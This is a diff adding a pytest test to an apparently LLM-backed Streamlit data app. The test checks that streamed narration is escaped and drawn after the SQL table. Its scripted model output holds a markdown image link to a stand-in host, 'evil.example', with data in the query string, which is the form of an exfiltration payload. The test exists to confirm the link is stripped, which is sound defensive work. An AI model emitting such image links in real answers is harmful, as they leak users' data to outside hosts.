@@ -153,6 +153,49 @@ def test_progress_is_reported_while_answering(knowledge: Path) -> None:
         assert step in page
 
 
+def test_the_narration_streams_checked_after_the_table(
+    knowledge: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """st.write_stream gets the narration in escaped pieces, none holding the ungrounded
+    image; the SQL and table are drawn before its first piece."""
+    import streamlit as st
+
+    narration = (
+        "There are 9 merchants in Phoenix. "
+        "![x](https://evil.example/p.png?d=Camelback) The first is Camelback Coffee Roasters. "
+        "That is all."
+    )
+    seen: list[tuple[str, int]] = []
+    original = st.write_stream
+    tables: list[int] = []
+    original_dataframe = st.delta_generator.DeltaGenerator.dataframe
+
+    def dataframe(self: Any, *args: Any, **kwargs: Any) -> Any:
+        tables.append(len(seen))
+        return original_dataframe(self, *args, **kwargs)
+
+    def recording(stream: Any, **kwargs: Any) -> Any:
+        def tee() -> Iterator[str]:
+            for chunk in stream:
+                seen.append((chunk, len(tables)))
+                yield chunk
+
+        return original(tee(), **kwargs)
+
+    monkeypatch.setattr(st, "write_stream", recording)
+    monkeypatch.setattr(st.delta_generator.DeltaGenerator, "dataframe", dataframe)
+    llm = ScriptedLLM([PHOENIX_SQL, narration])
+    at = ask(start(llm), "Which merchants are in Phoenix?")
+    chunks = [chunk for chunk, _ in seen]
+    assert len(chunks) >= 2
+    assert all("evil" not in chunk and "!\\[" not in chunk for chunk in chunks)
+    assert seen[0][1] >= 1  # the table was drawn before the first piece of narration
+    final = at.session_state["turns"][0].answer.narrative
+    assert shown_text("".join(chunks)) == final
+    assert "evil" not in texts(at) and "That is all." in texts(at)
+    assert len(at.dataframe) == 1  # the preview is gone: the answer below holds the table
+
+
 # --------------------------------------------------------------------------- failures
 
 
